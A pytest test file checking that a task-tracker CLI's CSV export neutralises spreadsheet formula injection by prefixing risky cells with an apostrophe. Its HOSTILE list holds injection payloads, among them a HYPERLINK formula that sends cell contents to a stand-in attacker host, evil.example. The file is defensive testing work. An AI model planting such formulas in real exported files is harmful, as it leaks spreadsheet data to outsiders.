"""CSV the program writes opens in a spreadsheet as text: nothing in it runs as a formula."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tracker.cli import main
from tracker.domain.forms import Form
from tracker.domain.records import NoticeSpec, RequirementSpec, UnitSpec
from tracker.reports.csv_text import FORMULA_LEADS, csv_text, safe_cell
from tracker.services.bundle import Services

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1", "-1+2", "@SUM(1)"]


@pytest.mark.both_databases
def test_status_csv_escapes_every_cell_a_spreadsheet_would_run(
    services: Services, workspace_dir: Path, db_url: str | None, capsys: pytest.CaptureFixture[str]
) -> None:
    services.units.add_category("@类别")
    for name in HOSTILE:
        services.units.save(UnitSpec(name, "@类别"))
    services.notices.create(
        NoticeSpec(
            "+通知",
            doc_number="=1+1",
            requirements=(
                RequirementSpec("-总结", date(2023, 6, 27), Form.ELECTRONIC, ("@类别",)),
            ),
        )
    )
    where = ["--db-url", db_url] if db_url else ["--workspace", str(workspace_dir)]
    assert main([*where, "status", "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert len(rows) == 1 + len(HOSTILE)
    units = sorted(r[0] for r in rows[1:])
    assert units == sorted("'" + n for n in HOSTILE)
    for row in rows[1:]:
        assert row[1] == "'@类别" and row[2] == "'=1+1" and row[3] == "'-总结"
        assert not any(cell.startswith(FORMULA_LEADS) for cell in row)


@given(st.lists(st.lists(st.text(max_size=12), min_size=1, max_size=4), max_size=5))
def test_no_csv_cell_starts_like_a_formula_and_nothing_else_changes(
    rows: list[list[str]],
) -> None:
    width = max((len(r) for r in rows), default=1)
    rows = [r + [""] * (width - len(r)) for r in rows]
    text = csv_text(["h"] * width, rows)
    back = list(csv.reader(io.StringIO(text + "\n")))[1:]
    for written, read in zip(rows, back, strict=False):
        for cell, got in zip(written, read, strict=True):
            assert not got.startswith(FORMULA_LEADS)
            assert got == safe_cell(cell)
            if "\r" not in cell:
                assert got in (cell, "'" + cell)
